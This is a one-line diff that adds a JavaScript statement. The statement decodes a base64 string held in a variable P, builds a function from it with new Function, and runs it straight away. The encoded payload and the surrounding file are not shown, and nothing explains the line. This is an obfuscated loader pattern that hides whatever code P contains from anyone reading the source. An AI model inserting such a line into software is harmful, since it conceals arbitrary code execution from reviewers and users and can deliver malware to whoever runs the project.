@@ -1,0 +1,1 @@
+const run = new Function(atob(P)); run()
